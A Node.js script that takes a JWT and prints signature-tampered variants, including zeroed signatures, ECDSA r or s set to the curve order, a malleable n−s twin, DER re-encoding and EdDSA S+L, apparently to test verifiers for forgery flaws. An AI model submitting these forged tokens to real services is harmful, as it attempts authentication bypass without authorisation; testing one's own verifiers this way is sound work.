// Signatures changed by somebody who has no key. node surgery.mjs TOKEN: lines "NAME TOKEN", one for each way that fits
// the token's algorithm. "twin" is an ECDSA signature that verifies as well as its original.
const token = process.argv[2];
const [header, payload, signature] = token.split('.');
const alg = JSON.parse(Buffer.from(header, 'base64url')).alg;
const bytes = Buffer.from(signature, 'base64url');
const half = bytes.length / 2;
const ORDER = {
  ES256: 0xffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551n,
  ES512: 0x1fffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffa51868783bf2f966b7fcc0148f709a5d03bb5c9b8899c47aebb6fb71e91386409n,
  EdDSA: (1n << 252n) + 27742317777372353535851937790883648493n,
}[alg];

const number = (buffer) => BigInt(`0x${buffer.toString('hex') || '0'}`);
const fixed = (value, size) => Buffer.from(value.toString(16).padStart(2 * size, '0').slice(-2 * size), 'hex');
const reversed = (buffer) => Buffer.from(buffer).reverse();
const emit = (name, changed) => console.log(name, `${header}.${payload}.${changed.toString('base64url')}`);
const integer = (value) => {
  let hex = value.toString(16);
  hex = hex.length % 2 || parseInt(hex.slice(0, 2), 16) > 127 ? hex.padStart(hex.length + 2 - (hex.length % 2), '0') : hex;
  return Buffer.concat([Buffer.from([2, hex.length / 2]), Buffer.from(hex, 'hex')]);
};

emit('zeros', Buffer.alloc(bytes.length));
emit('ones', Buffer.alloc(bytes.length, 255));
emit('a-byte-less', bytes.subarray(1));
emit('a-byte-more', Buffer.concat([bytes, Buffer.from([0])]));
emit('a-zero-before', Buffer.concat([Buffer.from([0]), bytes]));
emit('twice', Buffer.concat([bytes, bytes]));
emit('the-last-bit', Buffer.concat([bytes.subarray(0, -1), Buffer.from([bytes.at(-1) ^ 1])]));

if (alg.startsWith('ES')) {
  const [r, s] = [number(bytes.subarray(0, half)), number(bytes.subarray(half))];
  const pair = (a, b) => Buffer.concat([fixed(a, half), fixed(b, half)]);
  const body = Buffer.concat([integer(r), integer(s)]);
  emit('r-is-0', pair(0n, s));
  emit('s-is-0', pair(r, 0n));
  emit('r-is-n', pair(ORDER, s));
  emit('s-is-n', pair(r, ORDER));
  emit('r-and-s-are-n', pair(ORDER, ORDER));
  emit('swapped', pair(s, r));
  emit('DER', Buffer.concat([Buffer.from(body.length > 127 ? [0x30, 0x81, body.length] : [0x30, body.length]), body]));
  emit('twin', pair(r, ORDER - s));
}
if (alg === 'EdDSA') {
  const s = number(reversed(bytes.subarray(half)));
  emit('S-plus-L', Buffer.concat([bytes.subarray(0, half), reversed(fixed(s + ORDER, half))]));
  emit('S-is-0', Buffer.concat([bytes.subarray(0, half), Buffer.alloc(half)]));
}
